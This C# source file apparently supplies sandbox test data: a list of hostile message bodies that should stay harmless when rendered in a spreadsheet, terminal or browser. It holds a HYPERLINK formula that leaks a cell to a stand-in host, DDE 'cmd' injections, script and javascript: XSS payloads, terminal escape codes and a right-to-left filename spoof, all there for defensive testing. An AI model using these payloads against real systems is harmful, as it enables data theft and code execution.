using System.Linq;

namespace IntercomPS.Sandbox.Data;

/// <summary>Texts that strangers could send and that must do no harm in a spreadsheet, a terminal or a browser.</summary>
internal static class HostileSource
{
    public static string[] Bodies { get; } =
    [
        "=HYPERLINK(\"https://evil.example.net/?leak=\"&amp;A1,\"Click me\")",
        "<p>+1+cmd|' /C calc'!A0</p>",
        "<p>@SUM(1+9)*cmd|' /C calc'!A0</p>",
        "<p>-2+3 is what your invoice says</p>",
        "<p>Hi</p><script>alert('owned')</script><style>p{display:none}</style><p>after the script</p>",
        "<p>\u001b[31mred alert\u001b[0m \u001b]0;title\u0007 bell\u0007 backspace\b\b</p>",
        "<p>null \u0000 byte, vertical \u000b tab, next \u0085 line, separator \u2028 here</p>",
        "<p>right to left \u202Egnp.exe\u202C and zero\u200Bwidth</p>",
        "<p>&lt;b&gt;not bold&lt;/b&gt; &amp;amp; double &quot;quoted&quot;, comma, semi;colon\ttab\r\nnewline</p>",
        "<p onclick=\"steal()\">unclosed <b>tags <i>everywhere<p>and <a href=\"javascript:alert(1)\">a link</a>",
        "<p>\U0001F468\u200D\U0001F469\u200D\U0001F467\u200D\U0001F466 \U0001F1EF\U0001F1F5 e\u0301 \uFDFD</p>",
        "<p>" + string.Concat(Enumerable.Repeat("This line repeats until the mail client gives up. ", 600)) + "</p>",
        string.Empty,
    ];
}
